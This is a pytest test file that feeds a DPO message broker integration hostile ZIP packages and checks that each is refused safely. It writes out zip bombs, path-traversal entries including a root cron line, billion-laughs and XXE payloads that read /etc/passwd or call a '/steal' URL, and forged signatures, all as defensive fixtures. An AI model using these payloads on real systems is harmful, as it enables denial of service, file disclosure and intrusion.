"""Hostile incoming packages over DPO: each is refused with its reason, B keeps running and keeps
receiving, nothing of it is stored, and the sender is told where it can be.

A and B run as real ``ipunkt serve`` processes on the sandbox's fakes, which run here, in the
test's event loop. Each scenario puts a hostile ``sbd.zip`` on the fake Altinn broker, addressed
to B and sent with A's Altinn system user (as any organisation with broker access could), then
has A's fagsystem send a good message through A's API. It then checks what B shows: the good
message arrives and nothing of the hostile one is in ``/api/messages/in``; B's payload folder
holds one new file (the good message's); B's log names the reason; B's peak memory did not
grow with a bomb; and, where the file's SBD names A as its sender (which the broker confirms),
B put a ``status`` FEIL with the reason on the broker for A.

Where a package is refused (after decryption, so at receipt: B screens every package as it is
stored) the end-to-end tests check what A's fagsystem sees: the message A sent, damaged on the
broker on its way, ends FEIL at A with B's reason. What can only fail at pop (the package was
sound when stored, but B's key changed since) answers 404 as the original does, registers FEIL
with the reason at B, and keeps the message out of the queue.
"""

from __future__ import annotations

import asyncio
import io
import json
import struct
import time
import tomllib
import uuid
import zipfile
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import pytest_asyncio
import tomli_w
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from ipunkt.maskinporten.settings import MaskinportenSettings
from ipunkt.maskinporten.tokens import MaskinportenTokens
from ipunkt.package import cades, cms, xades
from ipunkt.package.asic import MIMETYPE, WrittenFile, asic_manifest
from ipunkt.package.keys import OrganisationKey, load_key
from ipunkt.package.manifest import IpManifest, MainDocument
from ipunkt.package.seal import Document, seal
from ipunkt.package.testcerts import make_ca, pem
from ipunkt.plugins import load_plugins
from ipunkt.sandbox import Sandbox
from ipunkt.testing import Fagsystem, ServerProcess, free_port

pytest.importorskip("ipunkt_dpo")
from ipunkt_dpo.client import BrokerClient, FileTransferInitialize, Scope

pytestmark = pytest.mark.asyncio(loop_scope="module")

RESOURCE = "eformidling-dpo-meldingsutveksling"
ADMINISTRASJON = "urn:no:difi:profile:arkivmelding:administrasjon:ver1.0"
ARKIVMELDING = b"""<?xml version="1.0" encoding="utf-8"?>
<arkivmelding xmlns="http://www.arkivverket.no/standarder/noark5/arkivmelding">
  <mappe><systemID>sak-1</systemID><tittel>Byggesak</tittel></mappe>
</arkivmelding>"""
MIB = 1 << 20
WAIT = 30.0
MEMORY_GROWTH = 128 * MIB
"""How much B's peak memory may grow while it refuses a bomb (the limits stop it at 16 MiB)."""


# --- the world: the sandbox's fakes here, A and B as processes -------------------------------


@dataclass
class Point:
    """One integration point: its process, its fagsystem's client, its config."""

    letter: str
    number: str
    process: ServerProcess
    api: Fagsystem
    config: Path
    settings: dict[str, Any]

    @property
    def store(self) -> Path:
        return Path(self.settings["store"]["path"])

    def payloads(self) -> set[Path]:
        """The stored payload files (encrypted blobs), not counting unfinished ones."""
        root = self.store / "payloads"
        return {p for p in root.rglob("*") if p.is_file() and p.parent.name != "tmp"}

    def unfinished(self) -> list[Path]:
        return [p for p in (self.store / "payloads" / "tmp").glob("*") if p.is_file()]

    def log_lines(self) -> list[dict[str, Any]]:
        lines = []
        for line in self.process.output().splitlines():
            if line.startswith("{"):
                try:
                    lines.append(json.loads(line))
                except ValueError:
                    continue
        return lines

    def peak_memory(self) -> int:
        """The process's peak resident memory (VmHWM), in bytes."""
        assert self.process.process is not None
        status = Path(f"/proc/{self.process.process.pid}/status").read_text()
        line = next(x for x in status.splitlines() if x.startswith("VmHWM:"))
        return int(line.split()[1]) * 1024

    def alive(self) -> bool:
        return self.process.process is not None and self.process.process.poll() is None

    async def start(self) -> None:
        await asyncio.to_thread(self.process.start, 60.0)

    async def stop(self) -> None:
        await asyncio.to_thread(self.process.stop)


@dataclass
class World:
    folder: Path
    a: Point
    b: Point
    broker: BrokerClient
    """The broker API with A's Altinn system user: the hostile sender."""
    broker_url: str
    keys: dict[str, OrganisationKey]
    stranger: OrganisationKey
    """A key for A's organisation number from a CA that B does not trust."""
    big: int = 256 * MIB
    """The size a bomb unpacks to (``size``: larger under ``dev.py faults``)."""
    replies_seen: dict[str, dict[str, Any]] = field(default_factory=dict)

    @property
    def storage(self) -> Path:
        return self.folder / "altinn-broker"

    def sbd(self, **changes: Any) -> dict[str, Any]:
        """A valid arkivmelding SBD from A to B, with a fresh messageId."""
        return arkivmelding_sbd(self.a.number, self.b.number, **changes)

    def package(self, files: dict[str, bytes] | None = None, **options: Any) -> bytes:
        """A sound package from A to B (CAdES-signed, sealed to B's certificate)."""
        return sealed(self.keys[self.a.number], self.keys[self.b.number].certificate,
                      files or {"arkivmelding.xml": ARKIVMELDING}, **options)

    def encrypted(self, plaintext: bytes) -> bytes:
        """Any bytes as CMS for B: what a hostile sender with B's public certificate can make."""
        return b"".join(cms.encrypt([plaintext], self.keys[self.b.number].certificate))

    async def put(self, data: bytes) -> str:
        """A file on the broker from A to B, made through the broker API as A's system user."""
        transfer_id = await self.broker.initialize(
            self.a.number,
            FileTransferInitialize(
                file_name="sbd.zip",
                resource_id=RESOURCE,
                sender=f"0192:{self.a.number}",
                recipients=[f"0192:{self.b.number}"],
                senders_file_transfer_reference=str(uuid.uuid4()),
            ),
        )

        async def chunks() -> AsyncIterator[bytes]:
            for start in range(0, len(data), MIB):
                yield data[start : start + MIB]

        await self.broker.upload(self.a.number, transfer_id, chunks())
        return transfer_id

    async def recipient_status(self, transfer_id: str) -> str | None:
        overview = await self.broker.overview(self.a.number, Scope.WRITE, transfer_id)
        return next(
            (
                r.get("currentRecipientFileTransferStatusCode")
                for r in overview.get("recipients") or ()
                if r.get("recipient") == f"0192:{self.b.number}"
            ),
            None,
        )

    async def confirmed(self, transfer_id: str) -> None:
        """Wait until B confirmed the download: it has taken (and decided on) the file."""
        deadline = time.monotonic() + WAIT
        while time.monotonic() < deadline:
            if await self.recipient_status(transfer_id) == "DownloadConfirmed":
                return
            await asyncio.sleep(0.1)
        raise AssertionError(f"B never confirmed {transfer_id}:\n{self.b.process.output()[-3000:]}")

    async def answer(self, transfer_id: str, message_id: str) -> list[dict[str, Any]]:
        """The FEIL replies to a refused file, once B has decided whether to answer it."""
        deadline = time.monotonic() + WAIT
        while time.monotonic() < deadline:
            replies = self.feil_replies(message_id)
            if replies:
                return replies
            decided = [
                line for line in self.b.log_lines()
                if line.get("file_transfer_id") == transfer_id
                and str(line.get("event", "")).startswith("dpo: the sender of a refused file")
            ]
            if decided:
                return []
            await asyncio.sleep(0.1)
        raise AssertionError(f"B never decided whether to answer {transfer_id}")

    def feil_replies(self, message_id: str) -> list[dict[str, Any]]:
        """The ``status`` FEIL messages for ``message_id`` that B put on the broker."""
        for path in sorted(self.storage.glob("*")):
            if path.name in self.replies_seen or not path.is_file():
                continue
            sbd = _file_sbd(path)
            self.replies_seen[path.name] = sbd
        return [
            sbd
            for sbd in self.replies_seen.values()
            if sbd.get("status", {}).get("status") == "FEIL"
            and _message_id(sbd) == message_id
        ]


def arkivmelding_sbd(
    sender: str, receiver: str, *, message_id: str | None = None, **body: Any
) -> dict[str, Any]:
    now = datetime.now(UTC)
    return {
        "standardBusinessDocumentHeader": {
            "headerVersion": "1.0",
            "sender": [{"identifier": {"authority": "iso6523-actorid-upis",
                                       "value": f"0192:{sender}"}}],
            "receiver": [{"identifier": {"authority": "iso6523-actorid-upis",
                                         "value": f"0192:{receiver}"}}],
            "documentIdentification": {
                "standard": "urn:no:difi:arkivmelding:xsd::arkivmelding",
                "typeVersion": "2.0",
                "instanceIdentifier": message_id or str(uuid.uuid4()),
                "type": "arkivmelding",
                "creationDateAndTime": (now - timedelta(seconds=5)).isoformat(),
            },
            "businessScope": {"scope": [{
                "type": "ConversationId",
                "instanceIdentifier": str(uuid.uuid4()),
                "identifier": ADMINISTRASJON,
                "scopeInformation": [
                    {"expectedResponseDateTime": (now + timedelta(days=1)).isoformat()}
                ],
            }]},
        },
        "arkivmelding": {"sikkerhetsnivaa": 3, "hoveddokument": "arkivmelding.xml", **body},
    }


def _file_sbd(path: Path) -> dict[str, Any]:
    """The SBD of a file on the broker; empty for the hostile ones this test cannot read."""
    try:
        with zipfile.ZipFile(path) as archive:
            if archive.getinfo("sbd.json").file_size > MIB:
                return {}
            sbd = json.loads(archive.read("sbd.json"))
    except (zipfile.BadZipFile, KeyError, ValueError, RecursionError, OSError):
        return {}
    return sbd if isinstance(sbd, dict) else {}


def _message_id(sbd: dict[str, Any]) -> str | None:
    header = sbd.get("standardBusinessDocumentHeader")
    identification = header.get("documentIdentification") if isinstance(header, dict) else None
    value = identification.get("instanceIdentifier") if isinstance(identification, dict) else None
    return value if isinstance(value, str) else None


def _tune(config: Path) -> dict[str, Any]:
    """Poll every fifth of a second and log JSON lines (for the scenarios to read)."""
    settings = tomllib.loads(config.read_text())
    settings["channels"]["dpo"]["poll_interval"] = 0.2
    settings["logging"] = {"format": "json", "level": "info"}
    config.write_text(tomli_w.dumps(settings))
    return settings


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    folder = tmp_path_factory.mktemp("hostile")
    box = Sandbox(folder, load_plugins(allow=["dpo"]), (free_port(), free_port()),
                  fakes_only=True)
    state = await box.start()
    stranger_ca = make_ca("a CA nobody configured")
    async with aiohttp.ClientSession() as session:
        points = []
        for organisation in state["organisations"]:
            config = Path(organisation["config"])
            settings = _tune(config)
            process = ServerProcess(config, int(organisation["url"].rsplit(":", 1)[1]),
                                    env={"PYTHONUNBUFFERED": "1"})
            points.append(Point(organisation["letter"], organisation["organisation"], process,
                                Fagsystem(session, organisation), config, settings))
        a, b = points
        keys = {p.number: load_key(Path(p.settings["organisation"]["key"])) for p in points}
        tokens = MaskinportenTokens(
            MaskinportenSettings(**a.settings["maskinporten"]), a.number, keys[a.number]
        )

        async def token(organisation: str, scope: Scope) -> str:
            return await tokens.token([scope.value], altinn=True)

        broker_url = a.settings["channels"]["dpo"]["broker_url"]
        world = World(
            folder, a, b, BrokerClient(broker_url, session, token), broker_url, keys,
            stranger_ca.issue(a.number, "Sandkasse A (forged)"),
        )
        try:
            await asyncio.gather(a.start(), b.start())
            yield world
        finally:
            for point in points:
                if point.alive():
                    await point.stop()
            await tokens.close()
            await box.stop()


# --- the good message, sent as A's fagsystem sends it ----------------------------------------


async def send_good(world: World) -> str:
    sbd = world.sbd()
    message_id = _message_id(sbd)
    assert message_id is not None
    api = world.a.api
    response = await api.call("POST", "/api/messages/out", json=sbd)
    assert response.status == 200, await response.text()
    response = await api.call(
        "PUT", f"/api/messages/out/{message_id}", data=ARKIVMELDING,
        headers={"Content-Type": "application/xml",
                 "Content-Disposition": 'attachment; filename="arkivmelding.xml"'},
    )
    assert response.status == 200, await response.text()
    response = await api.call("POST", f"/api/messages/out/{message_id}")
    assert response.status == 200, await response.text()
    return message_id


async def incoming(point: Point, message_id: str) -> list[dict[str, Any]]:
    response = await point.api.call("GET", "/api/messages/in", params={"messageId": message_id})
    assert response.status == 200, await response.text()
    return list((await response.json())["content"])


async def arrived(point: Point, message_id: str) -> int:
    """How many copies of ``message_id`` B holds once it arrived (0 if it never does)."""
    deadline = time.monotonic() + WAIT
    while time.monotonic() < deadline:
        found = await incoming(point, message_id)
        if found:
            return len(found)
        await asyncio.sleep(0.1)
    return 0


async def statuses(point: Point, message_id: str) -> list[dict[str, Any]]:
    response = await point.api.call("GET", f"/api/statuses/{message_id}", params={"size": 50})
    if response.status == 404:
        return []
    assert response.status == 200, await response.text()
    return list((await response.json())["content"])


# --- hostile ZIPs, built byte by byte ---------------------------------------------------------


@dataclass
class Member:
    """One ZIP entry as written: ``stored`` is its bytes on disk (compressed for deflate)."""

    name: str | bytes
    stored: bytes
    method: int
    crc: int
    size: int
    descriptor: bool = False
    declared_size: int | None = None
    """An uncompressed size to put in the headers instead of the true one."""


def member(name: str | bytes, data: bytes, *, deflate: bool = True, **options: Any) -> Member:
    if deflate:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        stored = compressor.compress(data) + compressor.flush()
    else:
        stored = data
    return Member(name, stored, 8 if deflate else 0, zlib.crc32(data), len(data), **options)


def bomb(name: str, size: int, **options: Any) -> Member:
    """``size`` bytes of zeros deflated to about a thousandth: one MiB's deflate blocks, flushed
    to a byte boundary, repeated (they reset the window, so repeating them is valid)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = size // MIB
    crc = 0
    zeros = bytes(MIB)
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    return Member(name, segment * count + b"\x03\x00", 8, crc, count * MIB, **options)


def raw_zip(*members: Member, comment: bytes = b"") -> bytes:
    """A ZIP of ``members`` in order, with ``comment`` at its end."""
    out = io.BytesIO()
    offsets = []
    for m in members:
        name = m.name.encode() if isinstance(m.name, str) else m.name
        offsets.append(out.tell())
        size = (m.declared_size if m.declared_size is not None else m.size) & 0xFFFFFFFF
        crc, csize, usize = (0, 0, 0) if m.descriptor else (m.crc, len(m.stored) & 0xFFFFFFFF, size)
        flags = 0x0800 | (0x0008 if m.descriptor else 0)
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, m.method, 0, 0x21,
                              crc, csize, usize, len(name), 0))
        out.write(name)
        out.write(m.stored)
        if m.descriptor:
            out.write(struct.pack("<4sIII", b"PK\x07\x08", m.crc, len(m.stored) & 0xFFFFFFFF,
                                  size))
    start = out.tell()
    listed = list(members)
    for index, m in enumerate(listed):
        name = m.name.encode() if isinstance(m.name, str) else m.name
        size = (m.declared_size if m.declared_size is not None else m.size) & 0xFFFFFFFF
        flags = 0x0800 | (0x0008 if m.descriptor else 0)
        out.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, m.method, 0,
                              0x21, m.crc, len(m.stored) & 0xFFFFFFFF, size, len(name), 0, 0, 0,
                              0, 0, offsets[index]))
        out.write(name)
    end = out.tell()
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(listed), len(listed),
                          end - start, start, len(comment)))
    return out.getvalue() + comment


def sbd_zip(sbd: dict[str, Any] | bytes, *after: Member, package: bytes | None = None) -> bytes:
    """``sbd.zip``: ``sbd.json``, then ``asic.zip`` (the package, if any), then ``after``."""
    data = sbd if isinstance(sbd, bytes) else json.dumps(sbd).encode()
    members = [member("sbd.json", data)]
    if package is not None:
        members.append(member("asic.zip", package, deflate=False))
    return raw_zip(*members, *after)


def sealed(
    key: OrganisationKey,
    recipient: x509.Certificate,
    files: dict[str, bytes],
    *,
    manifest: bool = True,
) -> bytes:
    """A package made by the sealing toolkit: whatever ``files`` hold is signed and sealed."""
    out = io.BytesIO()
    documents = [
        Document(name, "application/xml", lambda data=data: [data], len(data))
        for name, data in files.items()
    ]
    first = next(iter(files))
    seal(
        documents, key=key, recipient=recipient, out=out,
        manifest=IpManifest(receiver=_number(recipient), sender=key.organisation_number or "",
                            main_document=MainDocument(first, "application/xml"))
        if manifest else None,
    )
    return out.getvalue()


def _number(certificate: x509.Certificate) -> str:
    from ipunkt.package.trust import organisation_number

    number = organisation_number(certificate)
    assert number is not None
    return number


def cades_container(
    key: OrganisationKey, documents: dict[str, bytes], *, signed: dict[str, bytes] | None = None,
    signature: Callable[[bytes], bytes] | None = None, extra: tuple[Member, ...] = (),
) -> bytes:
    """An ASiC-E written here: ``documents`` as they are in the ZIP, ``signed`` as the
    ASiCManifest says they were (a digest mismatch when they differ), signed by ``key``."""
    signature_file = "META-INF/signature-1.p7s"
    written = [
        WrittenFile(name, "application/xml", len(data), _sha256(data))
        for name, data in (signed or documents).items()
    ]
    manifest = asic_manifest(written, signature_file)
    p7s = (signature or (lambda m: cades.sign_detached(m, key)))(manifest)
    return raw_zip(
        member("mimetype", MIMETYPE, deflate=False),
        *(member(name, data) for name, data in documents.items()),
        *extra,
        member("META-INF/ASiCManifest.xml", manifest),
        member(signature_file, p7s),
    )


def xades_container(key: OrganisationKey, documents: dict[str, bytes],
                    signed: dict[str, bytes]) -> bytes:
    files = [xades.SignedFile(n, "application/xml", _sha256(d)) for n, d in signed.items()]
    return raw_zip(
        member("mimetype", MIMETYPE, deflate=False),
        *(member(name, data) for name, data in documents.items()),
        member("META-INF/signatures.xml", xades.sign(files, key)),
    )


def _sha256(data: bytes) -> bytes:
    import hashlib

    return hashlib.sha256(data).digest()


def nested_json(depth: int) -> bytes:
    return b'{"standardBusinessDocumentHeader": ' + b"[" * depth + b"]" * depth + b"}"


def nested_xml(depth: int) -> bytes:
    return b"<?xml version='1.0'?>" + b"<a>" * depth + b"x" + b"</a>" * depth


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<arkivmelding>&lol9;</arkivmelding>"""
XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE arkivmelding [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<arkivmelding><tittel>&xxe;</tittel></arkivmelding>"""
XXE_URL = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal">]>
<manifest><mottaker>&xxe;</mottaker></manifest>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<manifest/>"""


def content_xml(sbd: dict[str, Any], body: bytes) -> bytes:
    """A legacy ``content.xml`` SBD with ``body`` (XML) as its business message."""
    header = sbd["standardBusinessDocumentHeader"]
    ident = header["documentIdentification"]
    scope = header["businessScope"]["scope"][0]
    sender = header["sender"][0]["identifier"]["value"]
    receiver = header["receiver"][0]["identifier"]["value"]
    authority = 'Authority="iso6523-actorid-upis"'
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<StandardBusinessDocument
 xmlns="http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader">
<StandardBusinessDocumentHeader><HeaderVersion>1.0</HeaderVersion>
<Sender><Identifier {authority}>{sender}</Identifier></Sender>
<Receiver><Identifier {authority}>{receiver}</Identifier></Receiver>
<DocumentIdentification><Standard>{ident["standard"]}</Standard><TypeVersion>2.0</TypeVersion>
<InstanceIdentifier>{ident["instanceIdentifier"]}</InstanceIdentifier><Type>arkivmelding</Type>
<CreationDateAndTime>{ident["creationDateAndTime"]}</CreationDateAndTime>
</DocumentIdentification><BusinessScope><Scope><Type>ConversationId</Type>
<InstanceIdentifier>{scope["instanceIdentifier"]}</InstanceIdentifier>
<Identifier>{scope["identifier"]}</Identifier></Scope></BusinessScope>
</StandardBusinessDocumentHeader>""".encode() + body + b"</StandardBusinessDocument>"


# --- the scenarios ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Scenario:
    name: str
    build: Callable[[World, dict[str, Any]], bytes]
    """The hostile ``sbd.zip``, given the world and a fresh valid SBD from A to B."""
    reason: str
    """What B's refusal says (a part of it)."""
    told: bool
    """Whether A can be told: the SBD is readable and names A, whom the broker confirms."""
    bomb: bool = False


def _asic(*members: Member) -> bytes:
    """A container's ZIP: ``mimetype`` first, then ``members``, nothing signed."""
    return raw_zip(member("mimetype", MIMETYPE, deflate=False), *members)


def inside(container: Callable[[World], bytes]) -> Callable[[World, dict[str, Any]], bytes]:
    """A sound SBD and, as its package, ``container`` encrypted to B (anyone can: B's
    certificate is public)."""
    return lambda w, s: sbd_zip(s, package=w.encrypted(container(w)))


def signed_by_a(documents: dict[str, bytes], **options: Any) -> Callable[[World], bytes]:
    return lambda w: cades_container(w.keys[w.a.number], documents, **options)


def packaged(files: dict[str, bytes], **options: Any) -> Callable[[World, dict[str, Any]], bytes]:
    """A sound SBD and a package made by the sealing toolkit, holding ``files`` as they are."""
    return lambda w, s: sbd_zip(s, package=w.package(files, **options))


ANOTHER = {"arkivmelding.xml": b"<arkivmelding>other</arkivmelding>"}
SOUND = {"arkivmelding.xml": ARKIVMELDING}

SCENARIOS = [
    # The file itself (sbd.zip).
    Scenario("not a zip", lambda w, s: b"%PDF-1.4 this is no zip\n" * 100,
             "not a readable ZIP", told=False),
    Scenario("truncated zip", lambda w, s: sbd_zip(s, package=w.package())[:-400],
             "not a readable ZIP", told=True),
    Scenario("truncated in the package", lambda w, s: sbd_zip(s, package=w.package())[:900],
             "not a readable ZIP", told=True),
    Scenario("zip bomb in sbd.zip", lambda w, s: sbd_zip(s, bomb("padding.bin", w.big)),
             "a zip bomb", told=True, bomb=True),
    Scenario("zip bomb in sbd.zip, sizes undeclared",
             lambda w, s: sbd_zip(s, bomb("padding.bin", w.big, descriptor=True)),
             "a zip bomb", told=True, bomb=True),
    Scenario("zip bomb as sbd.json", lambda w, s: raw_zip(bomb("sbd.json", w.big)),
             "sbd.json is larger than", told=False, bomb=True),
    Scenario("huge declared size",
             lambda w, s: raw_zip(member("sbd.json", json.dumps(s).encode(),
                                         declared_size=0xFFFFFFF0)),
             "not a readable ZIP", told=False),
    Scenario("many entries in sbd.zip",
             lambda w, s: sbd_zip(s, *(member(f"x{i}", b"") for i in range(20_000))),
             "more than 16 entries", told=True),
    Scenario("two packages, different content",
             lambda w, s: sbd_zip(s, member("asic.zip", w.package(ANOTHER), deflate=False),
                                  package=w.package()),
             "asic.zip twice", told=True),
    Scenario("two SBDs, different content",
             lambda w, s: raw_zip(member("sbd.json", json.dumps(s).encode()),
                                  member("sbd.json", json.dumps(w.sbd()).encode())),
             "more than one SBD", told=True),
    Scenario("path traversal in sbd.zip",
             lambda w, s: sbd_zip(s, member("../../../tmp/evil", b"x"), package=w.package()),
             "path traversal", told=True),
    Scenario("absolute path in sbd.zip",
             lambda w, s: sbd_zip(s, member("/etc/cron.d/evil", b"x"), package=w.package()),
             "absolute path", told=True),
    # The SBD.
    Scenario("deeply nested sbd.json",
             lambda w, s: raw_zip(member("sbd.json", nested_json(100_000))),
             "nests deeper than 64", told=False),
    Scenario("nested sbd.json just past the limit",
             lambda w, s: raw_zip(member("sbd.json", nested_json(200))),
             "nests deeper than 64", told=False),
    Scenario("deeply nested content.xml",
             lambda w, s: raw_zip(member("content.xml", content_xml(s, nested_xml(50_000)))),
             "content.xml", told=False),
    Scenario("billion laughs in content.xml",
             lambda w, s: raw_zip(member("content.xml", BILLION_LAUGHS)),
             "declares a DTD or entities", told=False),
    Scenario("external entity in content.xml",
             lambda w, s: raw_zip(member("content.xml", XXE_FILE)),
             "declares a DTD or entities", told=False),
    Scenario("an SBD the core refuses",
             lambda w, s: sbd_zip(
                 s | {"arkivmelding": {**s["arkivmelding"], "sikkerhetsnivaa": "tre"}},
                 package=w.package()),
             "sikkerhetsnivaa", told=True),
    # The package (asic.zip): decrypted, unpacked and verified as it is stored.
    Scenario("zip bomb in the package", inside(lambda w: _asic(bomb("data.bin", w.big))),
             "a zip bomb", told=True, bomb=True),
    Scenario("zip bomb in the package's META-INF",
             inside(lambda w: _asic(*(bomb(f"META-INF/x{i}.p7s", 8 * MIB) for i in range(40)))),
             "the META-INF files come to more than", told=True, bomb=True),
    Scenario("many entries in the package",
             inside(lambda w: _asic(*(member(f"d{i}.txt", b"") for i in range(5000)))),
             "more than 1000 entries", told=True),
    Scenario("huge declared size in the package",
             inside(lambda w: _asic(member("data.bin", ARKIVMELDING, deflate=False,
                                           declared_size=0xFFFFFFF0))),
             "container", told=True),
    Scenario("duplicate entries in the package",
             inside(signed_by_a(SOUND, extra=(member(*next(iter(ANOTHER.items()))),))),
             "two entries named 'arkivmelding.xml'", told=True),
    Scenario("path traversal in the package",
             inside(signed_by_a({"../../../etc/cron.d/evil": b"* * * * * root sh"})),
             "path traversal", told=True),
    Scenario("absolute path in the package", inside(signed_by_a({"/etc/passwd": b"root::0"})),
             "absolute path", told=True),
    Scenario("truncated zip in the package",
             inside(lambda w: cades_container(w.keys[w.a.number], SOUND)[:300]),
             "container", told=True),
    Scenario("not a zip in the package", inside(lambda w: b"GIF89a" + bytes(4000)),
             "not a readable ZIP", told=True),
    Scenario("billion laughs in arkivmelding.xml", packaged({"arkivmelding.xml": BILLION_LAUGHS}),
             "arkivmelding.xml declares a DTD", told=True),
    Scenario("external entity (file) in arkivmelding.xml",
             packaged({"arkivmelding.xml": XXE_FILE}),
             "arkivmelding.xml declares a DTD", told=True),
    Scenario("deeply nested arkivmelding.xml",
             packaged({"arkivmelding.xml": nested_xml(10_000)}),
             "arkivmelding.xml nests elements deeper than 100", told=True),
    Scenario("external entity (URL) in manifest.xml",
             packaged({"manifest.xml": XXE_URL, **SOUND}, manifest=False),
             "manifest.xml declares a DTD", told=True),
    Scenario("parameter entity in META-INF/manifest.xml",
             inside(signed_by_a(SOUND, extra=(member("META-INF/manifest.xml", PARAMETER_ENTITY),))),
             "META-INF/manifest.xml declares a DTD", told=True),
    Scenario("billion laughs in META-INF/manifest.xml",
             inside(signed_by_a(SOUND, extra=(member("META-INF/manifest.xml", BILLION_LAUGHS),))),
             "META-INF/manifest.xml declares a DTD", told=True),
    Scenario("deeply nested META-INF/ASiCManifest.xml",
             inside(lambda w: _asic(member("arkivmelding.xml", ARKIVMELDING),
                                    member("META-INF/ASiCManifest.xml", nested_xml(100_000)))),
             "META-INF/ASiCManifest.xml nests elements deeper than 100", told=True),
    Scenario("CMS for another key",
             lambda w, s: sbd_zip(s, package=sealed(
                 w.keys[w.a.number], w.keys[w.a.number].certificate, SOUND)),
             "not encrypted to", told=True),
    Scenario("not CMS at all",
             lambda w, s: sbd_zip(s, package=cades_container(w.keys[w.a.number], SOUND)),
             "CMS", told=True),
    Scenario("unsigned package", inside(lambda w: _asic(member("arkivmelding.xml", ARKIVMELDING))),
             "not signed", told=True),
    Scenario("document changed after signing", inside(signed_by_a(ANOTHER, signed=SOUND)),
             "changed after it was signed", told=True),
    Scenario("broken CAdES signature",
             inside(lambda w: cades_container(
                 w.keys[w.a.number], SOUND,
                 signature=lambda m: _flip(cades.sign_detached(m, w.keys[w.a.number]), -40))),
             "signature", told=True),
    Scenario("CAdES signature of another manifest",
             inside(lambda w: cades_container(
                 w.keys[w.a.number], SOUND,
                 signature=lambda m: cades.sign_detached(m + b" ", w.keys[w.a.number]))),
             "changed after signing", told=True),
    Scenario("signed by an untrusted certificate",
             inside(lambda w: cades_container(w.stranger, SOUND)),
             "does not chain to a trusted CA", told=True),
    Scenario("XAdES signature over other digests",
             inside(lambda w: xades_container(w.keys[w.a.number], ANOTHER, signed=SOUND)),
             "changed after it was signed", told=True),
    Scenario("no package for an arkivmelding", lambda w, s: sbd_zip(s),
             "holds no asic.zip", told=True),
]


def _flip(data: bytes, index: int) -> bytes:
    changed = bytearray(data)
    changed[index] ^= 0x01
    return bytes(changed)


@pytest.mark.parametrize("scenario", SCENARIOS, ids=[s.name for s in SCENARIOS])
async def test_a_hostile_file_is_refused_and_b_keeps_receiving(
    world: World, scenario: Scenario, size: Callable[[float, float], float],
    report: Callable[..., None],
) -> None:
    world.big = int(size(256 * MIB, 4096 * MIB))
    sbd = world.sbd()
    hostile_id = _message_id(sbd)
    assert hostile_id is not None
    data = scenario.build(world, sbd)
    payloads_before = world.b.payloads()
    log_from = len(world.b.log_lines())
    memory_before = world.b.peak_memory()

    started = time.monotonic()
    transfer_id = await world.put(data)
    good_id = await send_good(world)
    await world.confirmed(transfer_id)
    refused_after = time.monotonic() - started
    copies = await arrived(world.b, good_id)

    lines = world.b.log_lines()[log_from:]
    refusals = [
        line for line in lines
        if line.get("event") == "dpo: discarding a broken file"
        and line.get("file_transfer_id") == transfer_id
    ]
    errors = [
        line for line in lines
        if line.get("level") in ("error", "critical")
        or line.get("event") in ("dpo: could not take a file", "a package could not be checked")
    ]
    errors += [] if world.b.alive() and world.a.alive() else [{"event": "a process died"}]
    report(scenario=f"hostile: {scenario.name}", messages=1, lost=int(copies == 0),
           duplicated=max(copies - 1, 0), errors=len(errors))

    assert world.b.alive(), world.b.process.output()[-3000:]
    assert errors == [], errors
    assert copies == 1, f"the good message after the hostile one: {copies} copies at B"
    assert len(refusals) == 1, lines
    assert scenario.reason in refusals[0]["reason"], refusals[0]["reason"]
    assert await incoming(world.b, hostile_id) == [], "nothing of the hostile message is kept"
    new_payloads = world.b.payloads() - payloads_before
    assert len(new_payloads) == 1, f"only the good message's package is stored: {new_payloads}"
    assert world.b.unfinished() == [], "no half-written payload is left"
    if scenario.bomb:
        growth = world.b.peak_memory() - memory_before
        assert growth < MEMORY_GROWTH, f"B's peak memory grew {growth >> 20} MiB"
        assert refused_after < 20, f"refused after {refused_after:.1f} s"
    replies = await world.answer(transfer_id, hostile_id)
    if scenario.told:
        assert len(replies) == 1, "A is told with a status FEIL"
        [reply] = replies
        assert scenario.reason in reply["status"]["description"]
